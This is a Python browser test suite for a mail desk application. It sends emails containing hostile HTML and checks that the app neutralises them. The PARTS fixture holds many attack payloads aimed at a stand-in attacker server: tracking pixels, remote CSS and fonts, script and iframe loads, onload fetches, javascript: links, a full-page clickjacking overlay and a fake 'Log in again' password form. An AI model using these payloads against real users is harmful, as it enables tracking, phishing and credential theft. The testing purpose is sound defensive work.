"""A13 in a real browser: whatever HTML a mail carries, nothing loads, nothing leads away, nothing covers our controls."""

from __future__ import annotations

import smtplib
import threading
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.policy import SMTP
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests import running

pytestmark = pytest.mark.browser
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0.01"

# {at} is a server of the attacker that notes every request.
PARTS = [
    """<html><head><meta http-equiv="refresh" content="0;url={at}/refresh"><base href="{at}/base/" target="_top">
    <link rel="stylesheet" href="{at}/sheet.css"><link rel="preload" as="image" href="{at}/preload"><link rel="dns-prefetch" href="{at}">
    <link rel="icon" href="{at}/icon"><style>@import url("{at}/import.css"); @font-face {{font-family:x;src:url({at}/font)}}
    * {{background:url({at}/star) !important;font-family:x}} button {{display:none}}</style></head>
    <body background="{at}/body" onload="fetch('{at}/onload')"><p>Hello from the first part""",
    """<img src="{at}/pixel.gif" width=1 height=1><img srcset="{at}/set 2x"><picture><source srcset="{at}/source"><img alt="a picture"></picture>
    <img src="cid:x" style="background:url({at}/style)"><input type="image" src="{at}/input"><video poster="{at}/poster" src="{at}/video" autoplay></video>
    <audio src="{at}/audio" autoplay></audio><table background="{at}/table"><td background="{at}/cell">cell</td></table>
    <svg><image href="{at}/svg"/><use href="{at}/use#x"/><foreignObject><img src="{at}/foreign"></foreignObject></svg>
    <iframe src="{at}/frame"></iframe><object data="{at}/object"></object><embed src="{at}/embed"><script src="{at}/script"></script>
    <body style="background:url({at}/body2)"><bgsound src="{at}/sound"><marquee onstart="fetch('{at}/marquee')">x</marquee>""",
    '<div style="' + COVER + '" class="bar buttons hidden-label" id="main"><a href="{at}/covered" style="' + COVER + '">cover</a></div>'
    '<form action="{at}/form" method="post"><input name="password" placeholder="Your password"><button>Log in again</button>'
    '<div id="text"><textarea name="text">not yours</textarea><select><option>x</select><div data-live="case:1" data-src="/desk/" data-undo>',
    """</div></form></div></article></main></body></html><p></p></details></section><form action="{at}/second"><button form="x" formaction="{at}/action">Send</button>
    <dialog open style="inset:0">dialog</dialog><div popover>pop</div><a href="/desk/house/">looks like ours</a><a href="//evil.example/">two slashes</a>
    <a href="javascript:fetch('{at}/js')">script</a><a href="{at}/ping" ping="{at}/pinged">an honest link</a><!-- <div><plaintext>""",
    "<table><tr><td><div><ul><li><b><i><blockquote>never closed, and then <textarea> <title> <noscript> <template> <select> <!-- x",
]  # fmt: skip


class Noted(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 -- the library's names

    def log_message(self, *_about):
        pass


@pytest.fixture(scope="module")
def attacker():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Noted)
    server.seen = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def house():
    with running.house() as one:
        yield one


@pytest.fixture(scope="module")
def ruth(house):
    return house.owner()


def send(house, parts, *, subject):
    message = MIMEMultipart("mixed")
    message["From"], message["To"], message["Subject"] = "Eve <eve@evil.example>", running.ADDRESS, subject
    message["Message-ID"] = f"<{abs(hash(subject))}@evil.example>"
    for part in parts:
        message.attach(MIMEText(part, "html", "utf-8"))
    with smtplib.SMTP("127.0.0.1", house.smtp, timeout=20) as server:
        server.sendmail("eve@evil.example", [running.ADDRESS], message.as_bytes(policy=SMTP))


@pytest.fixture
def page(browser, ruth, house):
    context = browser.new_context(viewport={"width": 1360, "height": 900}, locale="en-GB")
    jar = next(one.cookiejar for one in ruth._opener.handlers if hasattr(one, "cookiejar"))
    context.add_cookies([{"name": one.name, "value": one.value, "url": house.url} for one in jar])
    opened = context.new_page()
    opened.asked_for = []
    opened.on("request", lambda request: opened.asked_for.append(request.url))
    yield opened
    context.close()


COVERED = """() => [...document.querySelectorAll("main button, main textarea, main summary, header a:not(.skip), header button, header input")]
  .filter((one) => !one.closest(".words") && one.checkVisibility({visibilityProperty: true, opacityProperty: true}))
  .filter((one) => {
    one.scrollIntoView({block: "center", inline: "center", behavior: "instant"});
    const box = one.getBoundingClientRect();
    const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return !(top && (one.contains(top) || top.contains(one) && top.matches("label")));
  }).map((one) => one.outerHTML.slice(0, 200))"""

STRANGE = """() => [...document.querySelectorAll(".words *")]
  .filter((one) => one.matches("form, input, button, select, textarea, style, link, meta, base, img, svg, iframe, object, embed, script, video, audio, dialog, [style], [class], [id], [name], [ping], [popover], [background], [target]")
    || [...one.attributes].some((its) => its.name.startsWith("on") || its.name.startsWith("data-")))
  .map((one) => one.outerHTML.slice(0, 200))"""


@pytest.mark.parametrize("number", [*range(len(PARTS)), "all", "all-backwards"])
def test_nothing_in_a_mail_loads_leads_away_or_covers(page, ruth, house, attacker, number):
    order = {"all": PARTS, "all-backwards": PARTS[::-1]}.get(number) or [PARTS[number]]
    evil = f"http://127.0.0.1:{attacker.server_port}"
    subject = f"Attack {number}"
    send(house, [part.format(at=evil) for part in order], subject=subject)
    case = ruth.case_about(subject)
    for place in (f"/desk/cases/{case}/", f"/receipt/of/{case}/"):
        page.goto(house.url + place)
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
        page.wait_for_timeout(700)  # time for a refresh or a picture to do what it must not do
        assert page.url == house.url + place
        assert page.evaluate(STRANGE) == []
        assert page.evaluate(COVERED) == []
    assert [url for url in page.asked_for if not url.startswith(house.url)] == []
    assert attacker.seen == []


def test_the_words_of_the_mail_are_still_read(page, ruth, house, attacker):
    send(house, [PARTS[0].format(at="http://x.example"), "<p>and <b>the second</b></p>"], subject="Two parts")
    page.goto(f"{house.url}/desk/cases/{ruth.case_about('Two parts')}/")
    assert page.locator("article.post details .words").count() == 1, "the formatted mail is not shown at all"
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
    assert "Hello from the first part" in page.locator("article.post details .words").inner_text()
    assert "the second" in page.locator("article.post").inner_text()


def test_a_form_of_a_mail_cannot_post_even_where_it_came_through(page, ruth, house, attacker):
    """The second wall: the policy of the page holds where cleaning would fail."""
    page.goto(f"{house.url}/desk/")
    evil = f"http://127.0.0.1:{attacker.server_port}"
    page.evaluate(
        """(at) => {
          const form = document.createElement("form");
          form.action = at + "/form"; form.method = "post"; document.body.append(form);
          const picture = document.createElement("img"); picture.src = at + "/pixel"; document.body.append(picture);
          const base = document.createElement("base"); base.href = at + "/"; document.head.append(base);
          const frame = document.createElement("iframe"); frame.src = at + "/frame"; document.body.append(frame);
          form.submit();
        }""",
        evil,
    )
    page.wait_for_timeout(700)
    assert attacker.seen == []
    assert page.url.startswith(house.url)
